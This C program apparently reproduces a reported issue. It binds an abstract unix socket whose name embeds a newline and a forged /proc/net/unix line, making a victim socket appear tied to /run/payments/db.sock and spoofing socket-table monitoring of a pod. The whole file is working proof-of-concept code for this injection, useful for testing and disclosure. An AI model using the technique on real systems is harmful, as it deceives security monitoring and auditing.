/* A process that files a socket table of its own as its pod's (issue 20, item 13). A victim
 * (a child process, in the same network namespace) blocks reading a socketpair. The forger's
 * main thread blocks on a UDP socket, so that its namespace is read from a thread in the
 * pod's; a second thread moves to a network namespace of its own (needs CAP_SYS_ADMIN) and
 * blocks on a unix socket bound to an abstract name holding a newline and a forged table line
 * that gives the victim's socket the path /run/payments/db.sock.
 * With the argument "same", the thread stays in the namespace of the pod (no root needed).
 * Prints "ready VICTIM_PID VICTIM_INODE FORGER_TID" and waits until killed; the victim dies
 * with it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static unsigned long victim_inode;
static int ready[2];
static int same;

static void *forger(void *arg) {
    (void)arg;
    if (!same && unshare(CLONE_NEWNET)) {
        perror("unshare");
        exit(1);
    }
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    /* Abstract: a NUL first. The kernel writes it as "@x", then the newline, then our line. */
    int n = snprintf(a.sun_path + 1, sizeof a.sun_path - 1,
                     "x\n0000000000000000: 00000002 00000000 00000000 0001 03 %lu /run/payments/db.sock",
                     victim_inode);
    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(sa_family_t) + 1 + n)) {
        perror("bind");
        exit(1);
    }
    long tid = syscall(SYS_gettid);
    if (write(ready[1], &tid, sizeof tid) != sizeof tid)
        exit(1);
    char buf[16];
    for (;;)
        recv(s, buf, sizeof buf, 0);
}

/* Waits until the task at /proc/PATH/stat sleeps: in its blocking call, its only one. */
static void await_sleep(const char *path) {
    for (int i = 0; i < 5000; i++) {
        char buf[512] = {0};
        FILE *f = fopen(path, "r");
        if (f) {
            size_t n = fread(buf, 1, sizeof buf - 1, f);
            fclose(f);
            buf[n] = 0;
            char *end = strrchr(buf, ')');
            if (end && end[1] == ' ' && end[2] == 'S')
                return;
        }
        usleep(1000);
    }
}

int main(int argc, char **argv) {
    same = argc > 1 && !strcmp(argv[1], "same");
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || pipe(ready)) {
        perror("socketpair");
        return 1;
    }
    struct stat st;
    fstat(pair[0], &st);
    victim_inode = st.st_ino;
    pid_t victim = fork();
    if (victim == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        char c;
        for (;;)
            read(pair[0], &c, 1);
    }
    close(pair[0]);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (u < 0 || bind(u, (struct sockaddr *)&in, sizeof in)) {
        perror("udp");
        return 1;
    }
    pthread_t t;
    pthread_create(&t, 0, forger, 0);
    long tid;
    if (read(ready[0], &tid, sizeof tid) != sizeof tid)
        return 1;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)victim);
    await_sleep(path);
    snprintf(path, sizeof path, "/proc/self/task/%ld/stat", tid);
    await_sleep(path);
    printf("ready %d %lu %ld\n", (int)victim, victim_inode, tid);
    fflush(stdout);
    char buf[16];
    for (;;)
        recv(u, buf, sizeof buf, 0);
}
